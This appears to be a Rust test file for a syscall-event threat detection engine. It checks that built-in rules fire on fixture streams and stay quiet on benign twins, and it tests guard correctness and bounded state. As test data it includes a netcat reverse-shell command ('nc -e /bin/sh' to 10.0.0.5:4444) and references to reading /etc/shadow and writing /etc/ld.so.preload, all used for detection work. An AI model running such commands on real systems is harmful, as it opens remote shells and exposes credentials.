//! The built-in rules over their fixture streams (tests/fixtures/rules: made by
//! make_fixtures.py, partly from a live recording), and the engine's guarantees: no work
//! for events no rule names, bounded state, expiry.

use detect::{Alert, Engine, Limits, NoLookup, RuleSet};
use std::path::PathBuf;

fn fixture(name: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn run(engine: &mut Engine, text: &str) -> Vec<Alert> {
    let mut alerts = Vec::new();
    for (i, line) in text.lines().enumerate() {
        engine
            .process(line, &mut alerts)
            .unwrap_or_else(|e| panic!("line {}: {e}", i + 1));
    }
    alerts
}

#[test]
fn every_builtin_rule_fires_once_on_its_stream_and_never_on_its_twin() {
    let ids: Vec<String> = RuleSet::builtin().rules().map(|r| r.id.clone()).collect();
    assert!(ids.len() >= 40, "only {} built-in rules", ids.len());
    for id in &ids {
        let trigger = fixture(&format!("rules/{id}.jsonl"));
        let mut engine = Engine::new(RuleSet::builtin());
        let alerts = run(&mut engine, &trigger);
        let fired: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
        assert_eq!(fired, [id.as_str()], "{id}: its stream raised {fired:?}");
        let last = trigger.lines().last().unwrap();
        let last: serde_json::Value = serde_json::from_str(last).unwrap();
        let alert = &alerts[0];
        assert_eq!(alert.pid, last["pid"].as_i64().unwrap(), "{id}: pid");
        assert_eq!(alert.tid, last["tid"].as_i64().unwrap(), "{id}: tid");
        assert_eq!(alert.ts, last["ts"].as_f64().unwrap(), "{id}: ts");
        let attached: serde_json::Value =
            serde_json::from_str(alert.events.last().unwrap().get()).unwrap();
        assert_eq!(
            attached, last,
            "{id}: the triggering event is attached as given"
        );
        if let Some(comm) = last["comm"].as_str() {
            assert_eq!(alert.comm, comm, "{id}: comm");
        }
        let json: serde_json::Value = serde_json::from_str(&alert.to_json()).unwrap();
        assert_eq!(json["type"], "alert");
        assert_eq!(json["rule"]["id"], id.as_str());
        assert!(alert.to_table_line().contains(&format!("ALERT:{id}")));

        let benign = fixture(&format!("rules/{id}.benign.jsonl"));
        let mut engine = Engine::new(RuleSet::builtin());
        let alerts = run(&mut engine, &benign);
        let fired: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
        assert!(fired.is_empty(), "{id}: its benign twin raised {fired:?}");
    }
}

#[test]
fn builtin_rules_name_their_provenance() {
    for rule in RuleSet::builtin().rules() {
        assert!(
            rule.tags
                .iter()
                .any(|t| t.starts_with("tracee:") || t.starts_with("falco:") || t == "sysfence"),
            "{}: no tracee:/falco:/sysfence tag",
            rule.id
        );
        assert!(!rule.mitre.is_empty(), "{}: no MITRE technique", rule.id);
        assert!(!rule.description.is_empty(), "{}: no description", rule.id);
    }
}

#[test]
fn a_live_recording_raises_exactly_its_behaviours() {
    let mut engine = Engine::new(RuleSet::builtin());
    let alerts = run(&mut engine, &fixture("recorded-behaviours.jsonl"));
    let mut fired: Vec<(&str, i64)> = alerts.iter().map(|a| (a.rule.id.as_str(), a.pid)).collect();
    fired.sort_unstable();
    // The reverse shell (17374), cat /etc/shadow (17375), the dropped payload run
    // (17378), the ASLR read (17381), and the hidden file: created executable by cp
    // (17379) and chmod +x (17380).
    assert_eq!(
        fired,
        [
            ("SF-R001", 17374),
            ("SF-R009", 17378),
            ("SF-R018", 17381),
            ("SF-R021", 17375),
            ("SF-R029", 17379),
            ("SF-R029", 17380)
        ]
    );
    let shell = alerts.iter().find(|a| a.rule.id == "SF-R001").unwrap();
    assert_eq!(shell.events.len(), 2, "the dup2 and the exec are attached");
    assert_eq!(shell.ancestry.first().map(|a| a.pid), Some(17333));
    assert_eq!(shell.executable, "/bin/sh");
}

#[test]
fn an_event_no_rule_names_costs_no_parse_and_no_evaluation() {
    let mut engine = Engine::new(RuleSet::builtin());
    let read = r#"{"v":1,"ts":1.0,"pid":9,"tid":9,"type":"syscall","name":"read","nr":0,"arch":"x86_64","args":[{"name":"fd","text":"3","raw":3}],"ret":1,"comm":"cat","uid":0,"gid":0,"ppid":1,"cgroup_id":1,"mntns":1,"pidns":1}"#;
    let mut alerts = Vec::new();
    for _ in 0..1000 {
        engine.process(read, &mut alerts).unwrap();
    }
    let stats = engine.stats();
    assert_eq!(stats.lines, 1000);
    assert_eq!((stats.parsed, stats.guards, stats.evaluations), (0, 0, 0));
    assert!(alerts.is_empty());
}

#[test]
fn guards_skip_cel_for_events_that_cannot_match() {
    let mut engine = Engine::new(RuleSet::builtin());
    let hostname = fixture("rules/SF-R018.benign.jsonl");
    run(&mut engine, &hostname);
    // An open of a path no rule's path tests hold for is left unparsed.
    let stats = engine.stats();
    assert_eq!((stats.prefiltered, stats.parsed), (1, 0), "{stats:?}");
    assert_eq!(stats.evaluations, 0, "{stats:?}");
    // So is one whose path some rule's tests hold for, when the line lacks the text
    // that rule needs (a read of /etc/ld.so.preload, which only a write would raise);
    // with it (a write), the line is parsed, its guards checked, and the rule raised.
    let mut engine = Engine::new(RuleSet::builtin());
    let read = r#"{"v":1,"ts":1.0,"pid":9,"tid":9,"type":"syscall","name":"openat","nr":257,"arch":"x86_64","args":[{"name":"dfd","text":"AT_FDCWD","raw":4294967196},{"name":"filename","text":"\"/etc/ld.so.preload\"","raw":1},{"name":"flags","text":"O_RDONLY|O_CLOEXEC","raw":524288}],"ret":3,"comm":"cat","uid":0,"gid":0,"ppid":1,"cgroup_id":1,"mntns":1,"pidns":1}"#;
    assert!(run(&mut engine, read).is_empty());
    let stats = engine.stats();
    assert_eq!((stats.prefiltered, stats.parsed), (1, 0), "{stats:?}");
    let write = read.replace("O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CLOEXEC");
    let alerts = run(&mut engine, &write);
    let stats = engine.stats();
    assert_eq!(stats.parsed, 1, "{stats:?}");
    assert!(stats.guards > 10, "{stats:?}");
    let ids: Vec<_> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(ids, ["SF-R037"]);
}

#[test]
fn a_sequence_expires_after_its_within() {
    let stream = fixture("rules/SF-R001.jsonl");
    let mut lines: Vec<serde_json::Value> = stream
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let last = lines.last_mut().unwrap();
    last["ts"] = serde_json::json!(last["ts"].as_f64().unwrap() + 61.0);
    let text: Vec<String> = lines.iter().map(|v| v.to_string()).collect();
    let mut engine = Engine::new(RuleSet::builtin());
    assert!(run(&mut engine, &text.join("\n")).is_empty());
}

/// The built-in rules under other limits.
fn limited(limits: Limits) -> Engine {
    Engine::with(RuleSet::builtin(), Box::new(NoLookup), limits)
}

#[test]
fn sequence_state_stays_under_its_cap() {
    let mut engine = limited(Limits {
        partials: 1000,
        ..Limits::default()
    });
    let mut alerts = Vec::new();
    for i in 0..20_000 {
        let line = format!(
            r#"{{"v":1,"ts":{i}.0,"pid":{pid},"tid":{pid},"type":"syscall","name":"openat","nr":257,"arch":"x86_64","args":[{{"name":"dfd","text":"AT_FDCWD","raw":0}},{{"name":"filename","text":"\"/tmp/f{i}\"","raw":0}},{{"name":"flags","text":"O_WRONLY|O_CREAT","raw":65}}],"ret":3,"comm":"sh","uid":0,"gid":0,"ppid":1,"cgroup_id":1,"mntns":1,"pidns":1}}"#,
            pid = 100 + i % 50
        );
        engine.process(&line, &mut alerts).unwrap();
        assert!(engine.partials() <= 1000);
    }
    assert!(engine.partials() > 100);
}

#[test]
fn a_fork_bomb_does_not_grow_the_process_table() {
    let mut engine = limited(Limits {
        processes: 500,
        ..Limits::default()
    });
    let mut alerts = Vec::new();
    for child in 2..100_002 {
        let fork = format!(
            r#"{{"v":1,"ts":{child}.0,"pid":1,"tid":1,"type":"fork","child_pid":{child},"child_tid":{child}}}"#
        );
        let exec = format!(
            r#"{{"v":1,"ts":{child}.0,"pid":{child},"tid":{child},"type":"exec","filename":"/bin/true","argv":["true"],"argv_complete":true}}"#
        );
        engine.process(&fork, &mut alerts).unwrap();
        engine.process(&exec, &mut alerts).unwrap();
        assert!(engine.processes() <= 500);
    }
}

#[test]
fn trace_json_streams_without_task_fields_match_too() {
    // `sysfence trace --json`: no exec events, no comm/uid/ppid; execve's argv decoded.
    let clone = r#"{"v":1,"ts":1.0,"pid":50,"tid":50,"type":"syscall","name":"clone","nr":56,"arch":"x86_64","args":[{"name":"clone_flags","text":"CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD","raw":18874385}],"ret":51}"#;
    let execve = r#"{"v":1,"ts":1.1,"pid":51,"tid":51,"type":"syscall","name":"execve","nr":59,"arch":"x86_64","args":[{"name":"filename","text":"\"/usr/bin/nc\"","raw":1},{"name":"argv","text":"[\"nc\", \"-e\", \"/bin/sh\", \"10.0.0.5\", \"4444\"]","raw":2},{"name":"envp","text":"0x7ffd /* 3 vars */","raw":3}],"ret":0}"#;
    let mut engine = Engine::new(RuleSet::builtin());
    let alerts = run(&mut engine, &format!("{clone}\n{execve}"));
    let fired: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(fired, ["SF-R005"]);
    assert_eq!(alerts[0].ancestry.first().map(|a| a.pid), Some(50));
    assert_eq!(alerts[0].executable, "/usr/bin/nc");
}

#[test]
fn malformed_event_lines_are_errors() {
    let mut engine = Engine::new(RuleSet::builtin());
    let mut alerts = Vec::new();
    assert!(engine.process("{not json", &mut alerts).is_err());
    assert!(
        engine
            .process(
                r#"{"type":"syscall","name":"openat","args":5}"#,
                &mut alerts
            )
            .is_err()
    );
    assert!(engine.process(r#"{"v":1}"#, &mut alerts).is_ok());
}

#[test]
fn guards_never_change_an_answer() {
    // Every fixture stream, the live recording, and each of their events with its
    // strings and numbers varied: the alerts with guards are those without.
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/rules");
    let mut streams: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
        .collect();
    streams.push(fixture("recorded-behaviours.jsonl"));
    let variants: Vec<String> = streams
        .iter()
        .flat_map(|s| s.lines())
        .flat_map(|l| {
            [
                l.replace("/etc/", "/etc/../etc/"),
                l.replace("O_RDONLY", "O_RDWR"),
                l.replace("\\\"/", "\\\"/proc/1/"),
                l.replace("\"container\":", "\"cwd\":\"/dev/shm\",\"container\":"),
                l.replace("\"comm\":\"", "\"comm\":\"x"),
            ]
        })
        .collect();
    streams.push(variants.join("\n"));
    let ids = |engine: Engine, text: &str| -> Vec<(String, i64)> {
        let mut engine = engine;
        run(&mut engine, text)
            .into_iter()
            .map(|a| (a.rule.id, a.pid))
            .collect()
    };
    let mut total = 0;
    for text in &streams {
        let fast = ids(Engine::new(RuleSet::builtin()), text);
        let slow = ids(Engine::new(RuleSet::builtin()).without_guards(), text);
        assert_eq!(fast, slow);
        total += fast.len();
    }
    assert!(total > 47, "{total} alerts in all");
}

#[test]
fn a_tree_sequence_joins_a_process_and_its_descendants() {
    let rule = "- id: T-TREE\n  name: curl then a child shell\n  severity: low\n  sequence:\n    scope: tree\n    within: 10s\n    steps:\n      - events: [exec]\n        condition: basename(path) == \"curl\"\n      - events: [exec]\n        condition: basename(path) == \"sh\"\n";
    let mut set = RuleSet::new();
    set.add_file("tree.yaml", rule).unwrap();
    let exec = |pid: i64, ts: f64, file: &str| {
        format!(
            r#"{{"v":1,"ts":{ts},"pid":{pid},"tid":{pid},"type":"exec","filename":"{file}","argv":["x"],"argv_complete":true}}"#
        )
    };
    let fork = |pid: i64, child: i64, ts: f64| {
        format!(
            r#"{{"v":1,"ts":{ts},"pid":{pid},"tid":{pid},"type":"fork","child_pid":{child},"child_tid":{child}}}"#
        )
    };
    let stream = [
        exec(10, 1.0, "/usr/bin/curl"),
        fork(10, 11, 1.1),
        fork(11, 12, 1.2),
        exec(12, 1.3, "/bin/sh"),
        // An unrelated shell: no alert.
        exec(20, 1.4, "/bin/sh"),
    ];
    let mut engine = Engine::new(set);
    let alerts = run(&mut engine, &stream.join("\n"));
    assert_eq!(alerts.len(), 1);
    assert_eq!((alerts[0].pid, alerts[0].events.len()), (12, 2));
    let chain: Vec<i64> = alerts[0].ancestry.iter().map(|a| a.pid).collect();
    assert_eq!(chain, [11, 10]);
}

/// What a source must capture for the built-in rules: every event they name, the
/// lifecycle the process table learns from, and (the reverse shell reads `sockets`)
/// the calls sockets are followed through; nothing for an empty set.
#[test]
fn the_events_needed_are_the_rules_events_the_lifecycle_and_the_socket_calls() {
    let set = RuleSet::builtin();
    let needed = set.events_needed();
    for name in [
        "init_module",
        "ptrace",
        "fchmodat",
        "exec",
        "fork",
        "exit",
        "close",
    ] {
        assert!(needed.contains(&name), "{name}: {needed:?}");
    }
    for rule in set.rules() {
        for e in &rule.events {
            assert!(needed.contains(&e.as_str()), "{}: {e}", rule.id);
        }
    }
    assert!(needed.windows(2).all(|w| w[0] < w[1]), "sorted, once each");
    assert!(RuleSet::new().events_needed().is_empty());
    let mut mine = RuleSet::new();
    let rule = "- id: MY-1\n  name: n\n  description: d\n  severity: info\n  events: [openat]\n  condition: \"true\"\n";
    mine.add_file("mine.yaml", rule).unwrap();
    assert_eq!(mine.events_needed(), ["exec", "exit", "fork", "openat"]);
}

/// A guard reads an argument named twice as CEL's `args` map keeps it (the last), so it
/// never refuses an event the condition holds of.
#[test]
fn a_guard_reads_an_argument_named_twice_as_cel_does() {
    let socket = r#"{"v":1,"ts":1.0,"pid":7,"tid":7,"type":"syscall","name":"socket","nr":41,"arch":"x86_64","args":[{"name":"family","text":"AF_INET","raw":2},{"name":"type","text":"SOCK_STREAM","raw":1},{"name":"protocol","text":"0","raw":0}],"ret":3,"comm":"sh"}"#;
    let dup2 = r#"{"v":1,"ts":2.0,"pid":7,"tid":7,"type":"syscall","name":"dup2","nr":33,"arch":"x86_64","args":[{"name":"oldfd","text":"5","raw":5},{"name":"oldfd","text":"3","raw":3},{"name":"newfd","text":"0","raw":0}],"ret":0,"comm":"sh"}"#;
    let alerts = |condition: &str| {
        let rule = format!(
            "- id: DUP-1\n  name: n\n  description: d\n  severity: info\n  events: [dup2]\n  condition: '{condition}'\n"
        );
        let mut set = RuleSet::new();
        set.add_file("dup.yaml", &rule).unwrap();
        let mut engine = Engine::new(set);
        let mut out = Vec::new();
        for line in [socket, dup2] {
            engine.process(line, &mut out).unwrap();
        }
        out.len()
    };
    // The second, unguarded, is CEL's own answer.
    assert_eq!(alerts("args.oldfd in sockets"), 1);
    assert_eq!(alerts("args.oldfd in sockets || size(comm) < 0"), 1);
    assert_eq!(alerts("raw.oldfd == 3"), 1);
}
